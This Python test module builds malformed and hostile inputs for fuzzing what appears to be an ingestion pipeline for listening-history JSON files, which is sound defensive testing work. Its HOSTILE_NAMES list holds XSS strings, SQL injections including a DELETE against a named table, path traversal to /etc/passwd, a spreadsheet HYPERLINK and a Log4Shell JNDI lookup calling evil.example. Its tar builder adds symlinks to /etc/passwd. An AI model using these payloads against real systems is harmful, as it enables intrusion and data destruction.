"""Valid samples made hostile: values, structures and bytes that no source should ever send."""

import bz2
import gzip
import io
import json
import lzma
import tarfile
import zipfile
from collections.abc import Callable
from random import Random
from typing import Any

HOSTILE_NAMES = (
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE plays; --",
    "Robert'); DELETE FROM bronze.listening_history_bronze WHERE ('1'='1",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\CON",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "@SUM(A1)",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n %(user)s {0} {user}",
    "[bold red]markup[/]",
    "$run_id",
    "مرحبا ‮abc‬ عربي",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🦊",
    "Z͑ͫ̓ͪ̂ͫ̽a̴̵̜̰͔ͫ͗͢l̠ͨͧͩg͇̗̪o̵",
    "\u200b\u200d\ufeff",
    "\u2028line\u2029",
    "tab\tnew\nline\rreturn",
    "nul\0inside",
    "\x1b[31mred\x07\x7f",
    "\ud800 half a pair",
    "e\u0301 é",
    "  spaces around  ",
    "|pipes|",
    "a" * 5_000,
    "𝕬" * 300,
    "",
    " ",
    "null",
    "NaN",
)
ODD_VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63), -(2**63) - 1,
    10**30, 10**400, 10**4_000, 0.5, -0.0, 1e308, float("nan"), float("inf"), float("-inf"), 73.0,
    "", " ", "0", "1", "-1", "1e3", "1e400", "true", "TRUE", "９", "0x10", "1_000",
    [], {}, [[]], [None], {"": None}, {"a": {"b": []}}, [1, "two", None], b"bytes".hex(),
)  # fmt: skip
ODD_INSTANTS = (
    "2024-02-30T10:00:00Z", "2024-02-29T10:00:00Z", "2023-02-29T10:00:00Z", "2024-13-01T10:00:00Z",
    "0000-00-00T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "1969-12-31T23:59:59Z",
    "1970-01-01T00:00:00Z", "2006-01-01T00:00:00Z", "2005-12-31T23:59:59Z", "2038-01-19T03:14:08Z",
    "2024-06-30T23:59:60Z", "2024-01-01T24:00:00Z", "2024-01-01T10:00:00+14:00",
    "2024-01-01T10:00:00-23:59", "9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+12:00",
    "2024-01-01T10:00:00.123456789Z", "2024-01-01T10:00:00,5Z", "2024-01-01 10:00", "2024-01-01",
    "2024-W01-1T10:00:00Z", "20240101T100000Z", "2024-1-1T1:0:0Z", "２０２４-01-01T10:00:00Z",
    "2024-01-01T10:00:00Z\n", " 2024-01-01T10:00:00Z", "+12024-01-01T10:00:00Z", "now", "infinity",
    "2024-01-01T10:00:00Zulu", "2024-01-01T10:00:00+99:99", "-2024-01-01T10:00:00Z",
)  # fmt: skip
TOKENS = (
    b"{", b"}", b"[", b"]", b",", b":", b'"', b"\\", b"\\u0000", b"\\ud800", b"\\udc00", b"\0",
    b"NaN", b"Infinity", b"-", b"1e999", b"null", b"\xff", b"\xfe\xff", b"\xff\xfe",
    b"\xef\xbb\xbf", b"\xed\xa0\x80", b"\xc0\x80", b"\xf4\x90\x80\x80", b"\r\n", b"\x1a",
    b"\x00\x00\xfe\xff",
    b"9" * 5_000, b"[" * 2_000, b'{"a":' * 2_000, b" " * 3_000, b"PK\x03\x04", b"\x1f\x8b", b"'",
    b'"ts": "2024-01-01T00:00:00Z"', b'{"ts":', b"/* */", b"#",
)  # fmt: skip
ENCODINGS = (
    "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "latin-1", "cp1252", "cp437",
)  # fmt: skip


def odd_value(random: Random) -> Any:
    """Return a value that a field should not have, or a name that may do harm."""
    return random.choice(
        (random.choice(ODD_VALUES), random.choice(HOSTILE_NAMES), random.choice(ODD_INSTANTS))
    )


def with_odd_fields(value: Any, random: Random, chance: float = 0.1) -> Any:
    """Return a JSON value in which some values, at any depth, are odd, missing or repeated."""
    if random.random() < chance / 4:
        return odd_value(random)
    match value:
        case dict():
            made = {}
            for name, inner in value.items():
                fate = random.random()
                if fate < chance / 3:
                    continue
                if fate < chance:
                    made[name] = odd_value(random)
                elif fate < chance * 1.1:
                    made[random.choice(HOSTILE_NAMES)] = inner
                else:
                    made[name] = with_odd_fields(inner, random, chance)
            return made
        case list():
            made_list = [with_odd_fields(each, random, chance) for each in value]
            if made_list and random.random() < chance:
                made_list.insert(random.randrange(len(made_list) + 1), odd_value(random))
            return made_list
        case _:
            return value


def encoded(value: Any, random: Random) -> bytes:
    """Return a value as JSON in some form in which files come, valid or not."""
    text = json.dumps(
        value,
        ensure_ascii=random.random() < 0.3,
        indent=random.choice((None, None, 2)),
    )
    if isinstance(value, list) and random.random() < 0.1:
        text = "\n".join(json.dumps(each) for each in value)
    if random.random() < 0.1:
        text = twice_named(text, random)
    if random.random() < 0.15:
        return text.encode(random.choice(ENCODINGS), "replace")
    return text.encode("utf-8", "surrogatepass")


def twice_named(text: str, random: Random) -> str:
    """Return JSON in which an object has a key twice."""
    place = text.find("{", random.randrange(len(text) or 1))
    again = '"ts": "2024-05-05T05:05:05Z", "ms_played": 1, '
    return text if place < 0 else text[: place + 1] + again + text[place + 1 :]


def with_odd_bytes(content: bytes, random: Random) -> bytes:
    """Return bytes that are cut, flipped, repeated, mixed with tokens, or as they are."""
    mutated = bytearray(content)
    for _ in range(random.choice((0, 1, 1, 2, 5, 20))):
        place = random.randrange(len(mutated) + 1)
        end = min(len(mutated), place + random.choice((1, 2, 10, 200)))
        match random.randrange(7):
            case 0:
                del mutated[place:end]
            case 1:
                mutated[place:place] = random.choice(TOKENS)
            case 2:
                mutated[place:end] = random.choice(TOKENS)
            case 3:
                mutated[place:place] = mutated[place:end]
            case 4:
                mutated[place:end] = random.randbytes(end - place)
            case 5 if place < len(mutated):
                mutated[place] ^= 1 << random.randrange(8)
            case _:
                del mutated[place + random.randrange(1_000) :]
    return bytes(mutated)


def zipped(members: dict[str, bytes], random: Random) -> bytes:
    """Return a zip of these members: deflated, stored, or by a method seldom seen; some twice."""
    methods = (zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", random.choice(methods)) as archive:
        for name, content in members.items():
            # Half a surrogate pair is no name.
            archive.writestr(zipfile.ZipInfo(name.encode("utf-8", "replace").decode()), content)
    return stream.getvalue()


def tarred(members: dict[str, bytes], random: Random) -> bytes:
    """Return a tar of these members, some of them links to places outside."""
    stream = io.BytesIO()
    mode: Any = random.choice(("w", "w:gz", "w:bz2", "w:xz"))
    with tarfile.open(fileobj=stream, mode=mode) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name.encode("utf-8", "replace").decode().replace("\0", "_"))
            if random.random() < 0.1:
                info.type = random.choice((tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE))
                info.linkname = "/etc/passwd"
                archive.addfile(info)
            else:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


PACKERS: dict[str, Callable[[bytes], bytes]] = {
    ".gz": gzip.compress,
    ".bz2": bz2.compress,
    ".xz": lzma.compress,
}
